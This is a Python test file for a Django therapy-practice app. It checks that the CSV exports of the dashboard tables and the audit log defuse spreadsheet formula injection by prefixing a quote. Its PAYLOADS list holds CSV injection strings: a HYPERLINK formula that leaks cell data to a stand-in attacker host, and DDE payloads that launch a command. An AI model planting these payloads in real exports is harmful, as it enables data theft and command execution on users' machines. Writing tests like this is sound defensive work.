"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP's CSV
injection advice): a cell that starts with = + - @ tab or carriage return gets a leading '.

Fetched through the real views, parsed back with the csv module, every cell checked.
"""

import csv
import datetime
import io
import pathlib
import re

import pytest
from django.conf import settings
from django.test import Client as HttpClient
from django.utils import timezone

from clients.models import Client, NoteTheme, ResistanceTheme
from clients.views.dashboard import TABLES
from recovery.models import AuditAction, AuditEvent, Role
from recovery.services import audit
from tests.factories import ClientFactory, SessionNoteFactory, UserFactory

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Every module that writes a CSV response, and the test below that covers it.
CSV_EXPORTS = {
    "clients/views/dashboard.py": "test_the_dashboard_tables_neutralise_formulas",
    "recovery/audit_views.py": "test_the_audit_csv_neutralises_formulas",
}


CSV_RESPONSE = re.compile(r"""content_type\s*=\s*["']text/csv""")


def test_every_csv_export_is_covered():
    root = pathlib.Path(settings.BASE_DIR)
    found = set()
    for app in ("recovery", "clients", "groups"):
        for source in (root / app).rglob("*.py"):
            if CSV_RESPONSE.search(source.read_text()):
                found.add(str(source.relative_to(root)))
    assert found == set(CSV_EXPORTS), "a new CSV export: add a test for it here"


def cells(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(content, newline="")))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"{where}: formula cell {cell!r}"


def assert_neutralised(rows: list[list[str]], payload: str, where: str) -> None:
    """The hostile value is there, whole, behind a quote: kept, not mangled, not dropped."""
    assert any(cell == "'" + payload for row in rows for cell in row), (
        f"{where}: {payload!r} not found neutralised in {rows}"
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p[:2]) for p in PAYLOADS])
def test_the_dashboard_tables_neutralise_formulas(practice, manager, as_user, payload):
    therapist = UserFactory(practice=practice, role=Role.THERAPIST, full_name=payload)
    # Never seen: drifting. A draft from a week ago: unsigned. A theme voiced in it.
    client = ClientFactory(primary_therapist=therapist, preferred_name=payload)
    quiet = ClientFactory(primary_therapist=therapist, preferred_name="Quinn")
    # On the caseload for a month, so "no session in 21 days" applies.
    Client.objects.filter(pk__in=[client.pk, quiet.pk]).update(
        created_at=timezone.now() - datetime.timedelta(days=30)
    )
    note = SessionNoteFactory(
        client=quiet, session_date=timezone.localdate() - datetime.timedelta(days=7)
    )
    theme = ResistanceTheme.objects.create(
        practice=practice, slug="hostile", name=payload, description="d"
    )
    NoteTheme.objects.create(note=note, theme=theme, intensity=3)
    browser = as_user(manager)
    expected_in = {"therapists", "drifting", "themes", "unsigned"}
    for table in TABLES:
        response = browser.get("/clients/dashboard/", {"csv": table})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        rows = cells(response)
        assert_no_formula(rows, table)
        if table in expected_in:
            assert_neutralised(rows, payload, table)
    drifting = cells(browser.get("/clients/dashboard/", {"csv": "drifting"}))
    assert ["'" + payload, "'" + payload] in [row[:2] for row in drifting]
    assert client.preferred_name == payload


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p[:2]) for p in PAYLOADS])
def test_the_audit_csv_neutralises_formulas(practice, manager, therapist, as_user, payload):
    hostile = UserFactory(practice=practice, role=Role.THERAPIST, full_name=payload)
    client = ClientFactory(primary_therapist=therapist, preferred_name=payload)
    audit(action=AuditAction.VIEW, actor=hostile, client=client)
    # What a stranger controls: the sign-in name typed and the browser's User-Agent header,
    # sent through the real sign-in page with a real account's address and a wrong password.
    HttpClient().post(
        "/sign-in/",
        {"username": therapist.email, "password": "not the password"},
        HTTP_USER_AGENT=payload,
    )
    failed = AuditEvent.objects.get(action=AuditAction.LOGIN_FAILED)
    assert failed.user_agent == payload[:300]
    AuditEvent.objects.create(
        practice=practice, action=AuditAction.LOGIN_FAILED, actor_identifier=payload
    )
    response = as_user(manager).get("/audit/", {"format": "csv"})
    assert response.status_code == 200
    rows = cells(response)
    assert_no_formula(rows, "audit")
    for column in ("Who", "Sign-in name typed", "Client", "Browser"):
        index = rows[0].index(column)
        assert "'" + payload in [row[index] for row in rows[1:]], column
